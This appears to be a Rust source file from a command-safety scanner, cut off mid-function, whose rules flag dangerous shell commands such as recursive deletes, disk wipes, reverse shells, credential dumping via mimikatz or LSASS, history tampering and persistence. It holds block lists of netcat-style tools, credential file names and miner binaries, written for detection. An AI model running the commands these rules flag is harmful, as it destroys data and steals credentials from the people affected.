//! The rules: each looks at resolved commands (name, flags, targets, redirections, the
//! pipeline around them) and reports what the command would do.

use airlock_core::Severity;

use super::lexer::{Command, RedirOp, State, Word};
use super::paths::{self, Place};
use super::resolve::{self, CODE, Interp, Resolved, interpreter};

/// One dangerous command found.
#[derive(Debug, Clone)]
pub(crate) struct Hit {
    pub rule: &'static str,
    pub severity: Severity,
    pub score: f32,
    pub message: String,
    /// Commands whose top-level spans make up the reported span.
    pub first: usize,
    pub last: usize,
}

/// Every rule id, for documentation and tests.
#[cfg(test)]
pub(crate) const RULES: &[&str] = &[
    "recursive_delete",
    "download_pipe_exec",
    "download_then_exec",
    "decode_pipe_exec",
    "reverse_shell",
    "dev_tcp_connection",
    "disk_wipe",
    "fork_bomb",
    "system_permission_change",
    "setuid_bit",
    "credential_read",
    "credential_exfiltration",
    "history_tampering",
    "log_tampering",
    "cron_persistence",
    "systemd_persistence",
    "shell_rc_persistence",
    "ssh_key_persistence",
    "launchd_persistence",
    "init_persistence",
    "auth_config_write",
    "windows_persistence",
    "cryptominer",
];

/// Resolves every command of `st` from `from` on (appending what they run) and applies the
/// rules to all of them.
pub(crate) fn analyze(st: &mut State, from: usize) -> Vec<Hit> {
    let mut resolved: Vec<Resolved> = vec![Resolved::default(); from];
    let mut i = from;
    while i < st.commands.len() {
        let r = resolve::resolve(st, i, &resolved);
        resolved.push(r);
        i += 1;
    }
    let mut pipelines: Vec<(u32, usize)> = Vec::new();
    let mut groups: Vec<(u32, usize)> = Vec::new();
    for (i, command) in st.commands.iter().enumerate().skip(from) {
        pipelines.push((command.pipeline, i));
        groups.push((command.group, i));
    }
    pipelines.sort_unstable();
    groups.sort_unstable();
    let ctx = Ctx {
        cmds: &st.commands,
        res: &resolved,
        pipelines,
        groups,
        from,
        enables_units: st.commands.iter().zip(&resolved).any(|(c, r)| {
            r.name == "systemctl"
                && c.argv
                    .iter()
                    .any(|w| matches!(w.text.as_str(), "enable" | "start" | "--now" | "restart"))
        }),
        // A shell, or a command read from the connection (`while read l; do $l; done`), wired
        // to a descriptor opened with `exec 5<>/dev/tcp/…`.
        shell_uses_fd: st.commands.iter().zip(&resolved).any(|(c, r)| {
            (interpreter(&r.name) == Some(Interp::Shell)
                || c.argv
                    .get(r.eff)
                    .is_some_and(|w| w.dynamic && w.text.is_empty()))
                && c.redirects.iter().any(|d| {
                    matches!(d.op, RedirOp::DupIn | RedirOp::DupOut)
                        && d.target.text.parse::<u32>().is_ok_and(|fd| fd >= 3)
                })
        }),
    };
    let mut hits = Vec::new();
    for i in from..st.commands.len() {
        ctx.command(i, &mut hits);
    }
    ctx.download_then_exec(&mut hits);
    hits
}

struct Ctx<'a> {
    cmds: &'a [Command],
    res: &'a [Resolved],
    /// (pipeline id, command index), sorted.
    pipelines: Vec<(u32, usize)>,
    /// (group id, command index), sorted.
    groups: Vec<(u32, usize)>,
    from: usize,
    enables_units: bool,
    shell_uses_fd: bool,
}

fn hit(rule: &'static str, severity: Severity, score: f32, message: String, i: usize) -> Hit {
    Hit {
        rule,
        severity,
        score,
        message,
        first: i,
        last: i,
    }
}

const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "fetch",
    "http",
    "https",
    "xh",
    "curlie",
    "lwp-request",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "aria2c",
];
const NETWORK: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "socat",
    "telnet",
    "ftp",
    "sftp",
    "scp",
    "rsync",
    "mail",
    "mailx",
    "sendmail",
    "mutt",
    "aws",
    "gsutil",
    "rclone",
    "az",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "cryptcat",
];
const NETCATS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "pwncat",
    "cryptcat",
    "ncat.exe",
];
const READERS: &[&str] = &[
    "cat",
    "tac",
    "less",
    "more",
    "head",
    "tail",
    "bat",
    "batcat",
    "nl",
    "strings",
    "xxd",
    "hexdump",
    "hd",
    "od",
    "base64",
    "base32",
    "basenc",
    "uuencode",
    "cp",
    "scp",
    "rsync",
    "sftp",
    "tar",
    "zip",
    "7z",
    "7za",
    "rar",
    "gzip",
    "bzip2",
    "xz",
    "zstd",
    "gpg",
    "openssl",
    "dd",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "ag",
    "awk",
    "gawk",
    "sed",
    "sort",
    "uniq",
    "cut",
    "jq",
    "yq",
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "mail",
    "mailx",
    "sendmail",
    "type",
    "get-content",
    "gc",
    "copy",
    "xcopy",
    "robocopy",
    "findstr",
    "certutil",
    "install",
    "pv",
    "sqlite3",
    "python",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "unshadow",
    "john",
];
const COPIERS: &[&str] = &[
    "cp", "scp", "rsync", "sftp", "tar", "zip", "7z", "7za", "rar", "copy", "xcopy", "robocopy",
    "gsutil", "rclone", "aws",
];
const MINERS: &[&str] = &[
    "xmrig",
    "xmrig-notls",
    "xmrig-nvidia",
    "xmrig-amd",
    "xmr-stak",
    "xmr-stak-cpu",
    "xmr-stak-rx",
    "minerd",
    "cpuminer",
    "cpuminer-multi",
    "cpuminer-opt",
    "cgminer",
    "bfgminer",
    "ethminer",
    "ccminer",
    "nbminer",
    "t-rex",
    "phoenixminer",
    "lolminer",
    "nanominer",
    "teamredminer",
    "gminer",
    "srbminer",
    "srbminer-multi",
    "bzminer",
    "kawpowminer",
    "nheqminer",
    "xmrminer",
];
const SHELL_LIKE: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "fish", "ash", "python", "python2",
    "python3", "perl", "ruby", "php", "node", "lua", "find", "vim", "vi", "nano", "less", "more",
    "env", "cp", "awk", "gdb", "nmap", "tar", "zip", "busybox",
];

fn is_downloader(name: &str) -> bool {
    DOWNLOADERS.contains(&name)
}

fn option_letters(word: &Word) -> Option<&str> {
    let t = word.text.as_str();
    (t.len() > 1 && t.starts_with('-') && !t.starts_with("--")).then(|| &t[1..])
}

impl Ctx<'_> {
    fn name(&self, i: usize) -> &str {
        self.res.get(i).map_or("", |r| r.name.as_str())
    }

    fn args(&self, i: usize) -> &[Word] {
        let eff = self.res.get(i).map_or(0, |r| r.eff);
        self.cmds
            .get(i)
            .and_then(|c| c.argv.get(eff + 1..))
            .unwrap_or_default()
    }

    /// The commands of `i`'s pipeline, in order.
    fn pipeline(&self, i: usize) -> Vec<usize> {
        members(&self.pipelines, self.cmds.get(i).map(|c| c.pipeline))
    }

    /// The commands of `i`'s statement (`iex (iwr …)`), in order.
    fn group(&self, i: usize) -> Vec<usize> {
        members(&self.groups, self.cmds.get(i).map(|c| c.group))
    }

    /// Commands lexed from the substitutions of a word.
    fn nested(&self, word: &Word) -> std::ops::Range<usize> {
        word.nested.start.max(self.from)..word.nested.end.min(self.cmds.len())
    }

    fn command(&self, i: usize, hits: &mut Vec<Hit>) {
        let name = self.name(i).to_owned();
        match name.as_str() {
            "rm" | "srm" | "unlink" | "rmdir" | "rd" | "del" | "erase" | "remove-item" | "ri" => {
                self.delete(i, &name, hits);
            }
            "find" => self.find(i, hits),
            "shred" | "wipe" => self.shred(i, hits),
            "rsync" => self.rsync_delete(i, hits),
            "mv" => self.move_to_null(i, hits),
            "chmod" => self.chmod(i, hits),
            "chown" | "chgrp" => self.chown(i, hits),
            "security" => self.keychain(i, hits),
            "reg" => self.registry(i, hits),
            "mimikatz" => hits.push(hit(
                "credential_read",
                Severity::Critical,
                0.9,
                "runs the mimikatz credential dumper".to_owned(),
                i,
            )),
            "procdump" | "rundll32" => self.lsass_dump(i, hits),
            "vssadmin" | "wmic" | "wbadmin" => self.backup_deletion(i, hits),
            "setcap" => self.capabilities(i, hits),
            "passwd" | "chpasswd" => self.root_password(i, hits),
            "aws" | "gh" | "gcloud" | "az" | "kubectl" | "git" | "vault" => {
                self.cli_tokens(i, hits)
            }
            "docker" | "podman" | "nerdctl" => self.miner_image(i, hits),
            "history" | "unset" | "set" => self.history_builtins(i, hits),
            "journalctl" | "auditctl" | "systemctl" | "service" | "wevtutil" | "clear-eventlog"
            | "remove-eventlog" => self.log_services(i, hits),
            "crontab" | "launchctl" | "schtasks" | "useradd" | "adduser" | "usermod" => {
                self.persistence_commands(i, hits);
            }
            "socat" => self.socat(i, hits),
            CODE => self.code(i, hits),
            "source" | "." | "eval" => {
                let mut words: Vec<&Word> = self.args(i).iter().collect();
                if let Some(command) = self.cmds.get(i) {
                    words.extend(
                        command
                            .redirects
                            .iter()
                            .filter(|d| matches!(d.op, RedirOp::Read | RedirOp::HereString))
                            .map(|d| &d.target),
                    );
                }
                self.substituted_download(i, &words, &name, hits);
            }
            "iex" | "invoke-expression" => self.powershell_iex(i, hits),
            _ => {}
        }
        if NETCATS.contains(&name.as_str()) {
            self.netcat(i, hits);
        }
        if name.starts_with("mkfs")
            || matches!(
                name.as_str(),
                "mke2fs"
                    | "mkswap"
                    | "mkdosfs"
                    | "mkntfs"
                    | "mkexfatfs"
                    | "newfs"
                    | "wipefs"
                    | "blkdiscard"
                    | "sgdisk"
                    | "hdparm"
                    | "badblocks"
                    | "cryptsetup"
                    | "parted"
                    | "format"
                    | "dd"
            )
        {
            self.disk(i, &name, hits);
        }
        if let Some(interp) = interpreter(&name) {
            self.interpreter_rules(i, interp, hits);
        }
        self.writes(i, hits);
        self.dev_tcp(i, hits);
        self.credentials(i, hits);
        self.history_files(i, hits);
        self.assignments(i, hits);
        self.miner(i, hits);
    }

    fn delete(&self, i: usize, name: &str, hits: &mut Vec<Hit>) {
        let windows = matches!(name, "rd" | "rmdir" | "del" | "erase");
        let powershell = matches!(name, "remove-item" | "ri");
        let mut recursive = false;
        let mut no_preserve = false;
        let mut options_done = false;
        let mut targets = Vec::new();
        for w in self.args(i) {
            let t = w.text.as_str();
            if !options_done && t == "--" {
                options_done = true;
                continue;
            }
            if !options_done && t.starts_with("--") {
                recursive |= t == "--recursive";
                no_preserve |= t == "--no-preserve-root";
                continue;
            }
            if !options_done && t.len() > 1 && t.starts_with('-') {
                let lower = t.to_ascii_lowercase();
                if powershell {
                    recursive |=
                        lower.len() >= 3 && "-recurse".starts_with(&lower) || lower == "-r";
                } else {
                    recursive |= t[1..].contains(['r', 'R']);
                }
                continue;
            }
            if windows && t.len() == 2 && t.starts_with('/') {
                recursive |= t.eq_ignore_ascii_case("/s");
                continue;
            }
            targets.push(w);
        }
        // `ls / | xargs rm -rf`: the targets arrive on standard input.
        let piped: Vec<Word>;
        if targets.is_empty() && self.res.get(i).is_some_and(|r| r.xargs) {
            piped = resolve::prev_stage(self.cmds, i)
                .filter(|&j| matches!(self.name(j), "ls" | "find" | "echo" | "printf"))
                .map(|j| {
                    self.args(j)
                        .iter()
                        .filter(|w| !w.text.starts_with('-'))
                        .take_while(|w| !w.text.starts_with('('))
                        .map(|w| {
                            let mut child = w.clone();
                            // Listing a directory yields its entries: `ls /` feeds `/*`.
                            if self.name(j) == "ls" {
                                child.text = format!("{}/*", w.text.trim_end_matches('/'));
                            }
                            child
                        })
                        .collect()
                })
                .unwrap_or_default();
            targets.extend(piped.iter());
        }
        if name == "rmdir" && !windows {
            return;
        }
        let mut worst: Option<(Place, String, bool)> = None;
        for w in targets {
            if w.text.is_empty() {
                continue;
            }
            let path = paths::normalize(&w.text);
            let (place, desc) = paths::classify(&path);
            if place == Place::Other {
                continue;
            }
            if worst.as_ref().is_none_or(|(p, _, _)| place > *p) {
                worst = Some((place, desc, w.dynamic));
            }
        }
        let Some((place, desc, dynamic)) = worst else {
            return;
        };
        if !(recursive || no_preserve) {
            return;
        }
        let (severity, score) = match place {
            _ if dynamic => (Severity::Medium, 0.5),
            Place::Root | Place::System | Place::Home => (Severity::Critical, 0.95),
            Place::HomeData => (Severity::High, 0.85),
            Place::Project => (Severity::High, 0.75),
            Place::ProjectHistory => (Severity::Medium, 0.6),
            Place::Other => return,
        };
        let message = if dynamic {
            format!("recursive delete of {desc} if a variable in the path is empty")
        } else {
            format!("recursive delete of {desc}")
        };
        hits.push(hit("recursive_delete", severity, score, message, i));
    }

    fn find(&self, i: usize, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        let mut k = 0;
        while args.get(k).is_some_and(|w| {
            matches!(w.text.as_str(), "-H" | "-L" | "-P") || w.text.starts_with("-O")
        }) {
            k += 1;
        }
        let starts: Vec<&Word> = args
            .get(k..)
            .unwrap_or_default()
            .iter()
            .take_while(|w| {
                !w.text.starts_with('-') && !matches!(w.text.as_str(), "(" | "!" | "\\(")
            })
            .collect();
        let deletes = args.iter().enumerate().any(|(k, w)| {
            w.text == "-delete"
                || (matches!(w.text.as_str(), "-exec" | "-execdir" | "-ok")
                    && args.get(k + 1).is_some_and(|c| {
                        matches!(
                            resolve::command_name(c).as_str(),
                            "rm" | "shred" | "unlink" | "srm" | "truncate" | "wipe"
                        )
                    }))
        });
        if !deletes {
            self.credential_hunt(i, &starts, hits);
            return;
        }
        const FILTERS: &[&str] = &[
            "-name",
            "-iname",
            "-path",
            "-ipath",
            "-regex",
            "-iregex",
            "-wholename",
            "-iwholename",
            "-newer",
            "-mtime",
            "-mmin",
            "-atime",
            "-amin",
            "-ctime",
            "-cmin",
            "-size",
            "-user",
            "-group",
            "-perm",
            "-empty",
            "-links",
            "-inum",
            "-samefile",
            "-uid",
            "-gid",
            "-lname",
        ];
        let filtered = args.iter().enumerate().any(|(k, w)| {
            FILTERS.contains(&w.text.as_str())
                && !args
                    .get(k + 1)
                    .is_some_and(|v| v.text == "*" || v.text == "*.*")
        });
        let default_start = [Word::literal(".", 0, 0, false)];
        let starts: Vec<&Word> = if starts.is_empty() {
            default_start.iter().collect()
        } else {
            starts
        };
        for start in starts {
            let path = paths::normalize(&start.text);
            if let Some(sensitive) = paths::log_file(&path) {
                hits.push(hit(
                    "log_tampering",
                    if sensitive {
                        Severity::High
                    } else {
                        Severity::Medium
                    },
                    0.8,
                    format!("deletes log files under `{path}`"),
                    i,
                ));
                return;
            }
            let (place, desc) = paths::classify(&path);
            let (severity, score) = match (place, filtered) {
                (Place::Root | Place::System | Place::Home, false) => (Severity::Critical, 0.9),
                (Place::Root | Place::System, true) => (Severity::Medium, 0.55),
                (Place::HomeData, false) => (Severity::High, 0.8),
                (Place::Project, false) => (Severity::High, 0.7),
                _ => continue,
            };
            let message = if filtered {
                format!("deletes matching files across {desc}")
            } else {
                format!("deletes every file under {desc}")
            };
            hits.push(hit("recursive_delete", severity, score, message, i));
            return;
        }
    }

    /// `find / -name id_rsa`: searching the machine for key files.
    fn credential_hunt(&self, i: usize, starts: &[&Word], hits: &mut Vec<Hit>) {
        const KEY_FILES: &[&str] = &[
            "id_rsa",
            "id_dsa",
            "id_ecdsa",
            "id_ed25519",
            "id_*",
            "*.pem",
            "*.ppk",
            "*.kdbx",
            "credentials",
            ".git-credentials",
            ".netrc",
            "wallet.dat",
            "*.keychain-db",
            "shadow",
            "*.pfx",
            "*.p12",
            "key4.db",
            "logins.json",
        ];
        let args = self.args(i);
        let wide = starts.iter().any(|w| {
            matches!(
                paths::classify(&paths::normalize(&w.text)).0,
                Place::Root | Place::System | Place::Home
            )
        });
        let looks_for_keys = args.windows(2).any(|p| {
            matches!(p[0].text.as_str(), "-name" | "-iname")
                && KEY_FILES.contains(&p[1].text.to_ascii_lowercase().as_str())
        });
        if wide && looks_for_keys {
            hits.push(hit(
                "credential_read",
                Severity::Medium,
                0.6,
                "searches the filesystem for private keys and credential files".to_owned(),
                i,
            ));
        }
    }

    fn shred(&self, i: usize, hits: &mut Vec<Hit>) {
        for w in self.args(i).iter().filter(|w| !w.text.starts_with('-')) {
            let path = paths::normalize(&w.text);
            if paths::is_block_device(&path) {
                hits.push(hit(
                    "disk_wipe",
                    Severity::Critical,
                    0.95,
                    format!("overwrites the disk `{path}` with random data"),
                    i,
                ));
                return;
            }
            if let Some(sensitive) = paths::log_file(&path) {
                hits.push(hit(
                    "log_tampering",
                    if sensitive {
                        Severity::High
                    } else {
                        Severity::Medium
                    },
                    0.85,
                    format!("shreds the log `{path}`"),
                    i,
                ));
                return;
            }
            let (place, desc) = paths::classify(&path);
            if matches!(
                place,
                Place::Root | Place::System | Place::Home | Place::HomeData
            ) {
                hits.push(hit(
                    "recursive_delete",
                    if place == Place::HomeData {
                        Severity::High
                    } else {
                        Severity::Critical
                    },
                    0.85,
                    format!("irreversible overwrite of {desc}"),
                    i,
                ));
                return;
            }
        }
    }

    fn rsync_delete(&self, i: usize, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        if !args.iter().any(|w| w.text.starts_with("--delete")) {
            return;
        }
        let Some(dest) = args.iter().rev().find(|w| !w.text.starts_with('-')) else {
            return;
        };
        let path = paths::normalize(&dest.text);
        let (place, desc) = paths::classify(&path);
        if matches!(place, Place::Root | Place::System | Place::Home) {
            hits.push(hit(
                "recursive_delete",
                Severity::Critical,
                0.85,
                format!("rsync --delete onto {desc} removes everything not in the source"),
                i,
            ));
        }
    }

    fn move_to_null(&self, i: usize, hits: &mut Vec<Hit>) {
        let operands: Vec<&Word> = self
            .args(i)
            .iter()
            .filter(|w| !w.text.starts_with('-'))
            .collect();
        let Some((dest, sources)) = operands.split_last() else {
            return;
        };
        if dest.text != "/dev/null" {
            return;
        }
        for source in sources {
            let (place, desc) = paths::classify(&paths::normalize(&source.text));
            if place >= Place::HomeData {
                hits.push(hit(
                    "recursive_delete",
                    Severity::Critical,
                    0.9,
                    format!("moves {desc} to /dev/null, destroying it"),
                    i,
                ));
                return;
            }
        }
    }

    fn disk(&self, i: usize, name: &str, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        let devices: Vec<String> = args
            .iter()
            .map(|w| paths::normalize(w.text.strip_prefix("of=").unwrap_or(&w.text)))
            .filter(|p| paths::is_block_device(p))
            .collect();
        let has = |flags: &[&str]| args.iter().any(|w| flags.contains(&w.text.as_str()));
        let (severity, score, message) = match name {
            "dd" => {
                let Some(target) = args
                    .iter()
                    .find_map(|w| w.text.strip_prefix("of="))
                    .map(paths::normalize)
                    .filter(|p| paths::is_block_device(p))
                else {
                    return;
                };
                let source = args.iter().find_map(|w| w.text.strip_prefix("if="));
                match source {
                    None | Some("/dev/zero" | "/dev/urandom" | "/dev/random") => (
                        Severity::Critical,
                        0.95,
                        format!("wipes the disk `{target}` with dd"),
                    ),
                    Some(_) => (
                        Severity::High,
                        0.85,
                        format!("writes an image over the disk `{target}`, destroying its data"),
                    ),
                }
            }
            "format" => {
                let Some(drive) = args.iter().find(|w| {
                    let b = w.text.as_bytes();
                    b.len() >= 2 && b[0].is_ascii_alphabetic() && b[1] == b':' && b.len() <= 3
                }) else {
                    return;
                };
                (
                    Severity::Critical,
                    0.85,
                    format!("formats drive {}", drive.text),
                )
            }
            _ if devices.is_empty() => return,
            "wipefs" => {
                let erase = args.iter().any(|w| {
                    w.text == "--all"
                        || w.text.starts_with("--offset")
                        || option_letters(w).is_some_and(|l| l.contains(['a', 'o']))
                });
                if !erase {
                    return;
                }
                (
                    Severity::Critical,
                    0.95,
                    format!("erases the filesystem signatures of `{}`", devices[0]),
                )
            }
            "blkdiscard" => (
                Severity::Critical,
                0.9,
                format!("discards every block of `{}`", devices[0]),
            ),
            "sgdisk" => {
                if !has(&["-Z", "--zap-all", "-o", "--clear", "-z", "--zap"]) {
                    return;
                }
                (
                    Severity::Critical,
                    0.9,
                    format!("destroys the partition table of `{}`", devices[0]),
                )
            }
            "hdparm" => {
                if !args.iter().any(|w| {
                    w.text.starts_with("--security-erase") || w.text == "--trim-sector-ranges"
                }) {
                    return;
                }
                (
                    Severity::Critical,
                    0.85,
                    format!("securely erases the disk `{}`", devices[0]),
                )
            }
            "badblocks" => {
                if !args
                    .iter()
                    .any(|w| option_letters(w).is_some_and(|l| l.contains('w')))
                {
                    return;
                }
                (
                    Severity::High,
                    0.8,
                    format!("destructive write test on `{}`", devices[0]),
                )
            }
            "cryptsetup" => {
                if !args.iter().any(|w| {
                    matches!(
                        w.text.to_ascii_lowercase().as_str(),
                        "luksformat" | "erase" | "lukserase" | "reencrypt"
                    )
                }) {
                    return;
                }
                (
                    Severity::High,
                    0.8,
                    format!(
                        "reformats `{}` as an encrypted volume, destroying its data",
                        devices[0]
                    ),
                )
            }
            "parted" => {
                if !args
                    .iter()
                    .any(|w| matches!(w.text.as_str(), "mklabel" | "rm"))
                {
                    return;
                }
                (
                    Severity::High,
                    0.8,
                    format!("rewrites the partition table of `{}`", devices[0]),
                )
            }
            _ => (
                Severity::Critical,
                0.9,
                format!("formats `{}`, destroying its data", devices[0]),
            ),
        };
        hits.push(hit("disk_wipe", severity, score, message, i));
    }

    fn chmod(&self, i: usize, hits: &mut Vec<Hit>) {
        let mut recursive = false;
        let mut mode: Option<&str> = None;
        let mut targets = Vec::new();
        for w in self.args(i) {
            let t = w.text.as_str();
            if t.starts_with("--") {
                recursive |= t == "--recursive";
                if t.starts_with("--reference") {
                    mode = Some("");
                }
                continue;
            }
            if t.len() > 1 && t.starts_with('-') && t[1..].bytes().all(|b| b"RfvcH".contains(&b)) {
                recursive |= t.contains('R');
                continue;
            }
            if mode.is_none() {
                mode = Some(t);
            } else {
                targets.push(w);
            }
        }
        let Some(mode) = mode else { return };
        let (world_writable, setuid) = parse_mode(mode);
        let mut best: Option<Hit> = None;
        let mut consider = |h: Hit| {
            if best
                .as_ref()
                .is_none_or(|b| (h.severity, h.score) > (b.severity, b.score))
            {
                best = Some(h);
            }
        };
        for w in targets {
            if w.dynamic || w.text.is_empty() {
                continue;
            }
            let path = paths::normalize(&w.text);
            let (place, desc) = paths::classify(&path);
            let system = place >= Place::System || is_system_subtree(&path);
            if recursive && place == Place::Root {
                consider(hit(
                    "system_permission_change",
                    Severity::Critical,
                    0.9,
                    format!("recursive permission change on {desc}"),
                    i,
                ));
            } else if recursive && place == Place::System {
                consider(hit(
                    "system_permission_change",
                    Severity::High,
                    0.85,
                    format!("recursive permission change on {desc}"),
                    i,
                ));
            }
            if world_writable && (system || paths::credential_file(&path).is_some()) {
                consider(hit(
                    "system_permission_change",
                    Severity::High,
                    0.85,
                    format!("makes `{path}` world-writable"),
                    i,
                ));
            } else if world_writable && place == Place::Home {
                consider(hit(
                    "system_permission_change",
                    Severity::Medium,
                    0.7,
                    format!("makes {desc} world-writable"),
                    i,
                ));
            }
            if setuid {
                let base = path.rsplit('/').next().unwrap_or(&path);
                let shell = SHELL_LIKE.contains(&base) || base.starts_with("python");
                consider(if shell {
                    hit(
                        "setuid_bit",
                        Severity::Critical,
                        0.9,
                        format!("sets the setuid bit on `{path}`: a root shell for any user"),
                        i,
                    )
                } else {
                    hit(
                        "setuid_bit",
                        Severity::High,
                        0.75,
                        format!("sets the setuid bit on `{path}`"),
                        i,
                    )
                });
            }
        }
        hits.extend(best);
    }

    fn chown(&self, i: usize, hits: &mut Vec<Hit>) {
        let mut recursive = false;
        let mut owner: Option<&str> = None;
        let mut targets = Vec::new();
        for w in self.args(i) {
            let t = w.text.as_str();
            if t.starts_with("--") {
                recursive |= t == "--recursive";
                if t.starts_with("--reference") {
                    owner = Some("");
                }
                continue;
            }
            if t.len() > 1 && t.starts_with('-') {
                recursive |= t.contains('R');
                continue;
            }
            if owner.is_none() {
                owner = Some(t);
            } else {
                targets.push(w);
            }
        }
        let Some(owner) = owner else { return };
        let root_owner = {
            let user = owner.split([':', '.']).next().unwrap_or(owner);
            matches!(user, "root" | "0" | "")
        };
        for w in targets {
            let path = paths::normalize(&w.text);
            let (place, desc) = paths::classify(&path);
            if recursive && place == Place::Root {
                hits.push(hit(
                    "system_permission_change",
                    Severity::Critical,
                    0.85,
                    format!("recursive ownership change of {desc}"),
                    i,
                ));
                return;
            }
            if recursive && place == Place::System && !root_owner {
                hits.push(hit(
                    "system_permission_change",
                    Severity::High,
                    0.75,
                    format!("recursive ownership change of {desc}"),
                    i,
                ));
                return;
            }
            let sensitive = matches!(
                path.as_str(),
                "/etc/shadow" | "/etc/sudoers" | "/etc/passwd" | "/etc/gshadow"
            ) || path.starts_with("/etc/sudoers.d");
            if sensitive && !root_owner {
                hits.push(hit(
                    "system_permission_change",
                    Severity::High,
                    0.8,
                    format!("gives `{path}` to a non-root owner"),
                    i,
                ));
                return;
            }
        }
    }

    fn keychain(&self, i: usize, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        let Some(sub) = args.first().map(|w| w.text.as_str()) else {
            return;
        };
        let reveals = args
            .iter()
            .any(|w| option_letters(w).is_some_and(|l| l.contains(['w', 'g', 'd'])));
        let (severity, score, message) = match sub {
            "find-generic-password" | "find-internet-password" if reveals => (
                Severity::High,
                0.85,
                "prints a password from the macOS keychain",
            ),
            "find-generic-password" | "find-internet-password" => (
                Severity::Medium,
                0.5,
                "looks up an item in the macOS keychain",
            ),
            "dump-keychain" => (Severity::High, 0.85, "dumps the macOS keychain"),
            "export" => (Severity::High, 0.7, "exports items from the macOS keychain"),
            _ => return,
        };
        hits.push(hit(
            "credential_read",
            severity,
            score,
            message.to_owned(),
            i,
        ));
    }

    fn registry(&self, i: usize, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        let lower: Vec<String> = args
            .iter()
            .map(|w| w.text.to_ascii_lowercase().replace(['\\', '/'], ""))
            .collect();
        let Some(sub) = lower.first() else { return };
        let key = lower.get(1).map_or("", String::as_str);
        if matches!(sub.as_str(), "save" | "export")
            && (key.starts_with("hklm") || key.starts_with("hkey_local_machine"))
            && (key.ends_with("sam") || key.ends_with("security") || key.ends_with("system"))
        {
            hits.push(hit(
                "credential_read",
                Severity::High,
                0.85,
                "saves a Windows registry hive that holds password hashes".to_owned(),
                i,
            ));
        }
        if sub == "add"
            && key.contains("currentversion")
            && (key.ends_with("run") || key.ends_with("runonce"))
        {
            hits.push(hit(
                "windows_persistence",
                Severity::High,
                0.8,
                "adds a program to the Windows Run key, started at every login".to_owned(),
                i,
            ));
        }
    }

    fn lsass_dump(&self, i: usize, hits: &mut Vec<Hit>) {
        let text = self
            .args(i)
            .iter()
            .map(|w| w.text.to_ascii_lowercase())
            .collect::<Vec<_>>()
            .join(" ");
        if text.contains("lsass") || (text.contains("comsvcs") && text.contains("minidump")) {
            hits.push(hit(
                "credential_read",
                Severity::Critical,
                0.85,
                "dumps the memory of LSASS, which holds Windows credentials".to_owned(),
                i,
            ));
        }
    }

    fn history_builtins(&self, i: usize, hits: &mut Vec<Hit>) {
        let args = self.args(i);
        let message = match self.name(i) {
            "history"
                if args
                    .iter()
                    .any(|w| option_letters(w).is_some_and(|l| l.contains('c'))) =>
            {
                "clears the shell history"
            }
            "unset" if args.iter().any(|w| w.text.starts_with("HISTFILE")) => {
                "disables the shell history file (unset HISTFILE)"
            }
            "set"
                if args
                    .windows(2)
                    .any(|p| p[0].text == "+o" && p[1].text == "history") =>
            {
                "turns off shell history recording"
            }
            _ => return,
        };
        hits.push(hit(
            "history_tampering",
            Severity::Medium,
            0.8,
            message.to_owned(),
            i,
        ));
    }

    fn assignments(&self, i: usize, hits: &mut Vec<Hit>) {
        let Some(command) = self.cmds.get(i) else {
            return;
        };
        let exported = matches!(
            self.name(i),
            "export" | "declare" | "typeset" | "local" | "readonly"
        );
        let from_args = command.argv.iter().filter(|_| exported).filter_map(|w| {
            let at = w.assign_at?;
            Some((
                w.text.get(..at)?.to_owned(),
                w.text.get(at + 1..)?.to_owned(),
            ))
        });
        for (name, value) in command.assigns.iter().cloned().chain(from_args) {
            let message = match (name.as_str(), value.as_str()) {
                ("HISTFILE", "" | "/dev/null") => "sends the shell history to /dev/null",
                ("HISTSIZE" | "HISTFILESIZE" | "SAVEHIST", "0") => {
                    "sets the shell history size to zero"
                }
                _ => continue,
            };
            hits.push(hit(
                "history_tampering",
                Severity::Medium,
                0.8,
                message.to_owned(),
                i,
            ));
            return;
        }
    }

    fn history_files(&self, i: usize, hits: &mut Vec<Hit>) {
        let Some(command) = self.cmds.get(i) else {
            return;
        };
        let name = self.name(i);
        let destroys = matches!(
            name,
            "rm" | "shred" | "truncate" | "unlink" | "srm" | "wipe"
        );
        let from_null = self.args(i).iter().any(|w| w.text == "/dev/null");
        let mut targets: Vec<String> = Vec::new();
        if destroys {
            targets.extend(self.args(i).iter().map(|w| paths::normalize(&w.text)));
        }
        if matches!(name, "ln" | "cp") && from_null {
            targets.extend(self.args(i).iter().map(|w| paths::normalize(&w.text)));
        }
        for r in &command.redirects {
            if matches!(r.op, RedirOp::Write) && r.writes_file() {
                targets.push(paths::normalize(&r.target.text));
            }
        }
        if let Some(path) = targets.iter().find(|p| paths::is_history_file(p)) {
            hits.push(hit(
                "history_tampering",
                Severity::Medium,
                0.8,
                format!("erases the shell history file `{path}`"),
                i,
            ));
            return;
        }
        let truncates = command.redirects.iter().any(|r| r.op == RedirOp::Write)
            || matches!(name, "truncate" | "rm" | "shred" | "unlink" | "srm")
            || (matches!(name, "cp" | "dd") && from_null);
        if !truncates {
            return;
        }
        let mut candidates: Vec<String> = command
            .redirects
            .iter()
            .filter(|r| r.op == RedirOp::Write)
            .map(|r| paths::normalize(&r.target.text))
            .collect();
        let destroys_operands = matches!(name, "truncate" | "rm" | "unlink" | "srm")
            || (matches!(name, "cp" | "dd") && from_null);
        if destroys_operands {
            candidates.extend(
                self.args(i)
                    .iter()
                    .filter(|w| !w.text.starts_with('-'))
                    .map(|w| paths::normalize(w.text.strip_prefix("of=").unwrap_or(&w.text))),
            );
        }
        for path in candidates {
            if let Some(sensitive) = paths::log_file(&path) {
                hits.push(hit(
                    "log_tampering",
                    if sensitive {
                        Severity::High
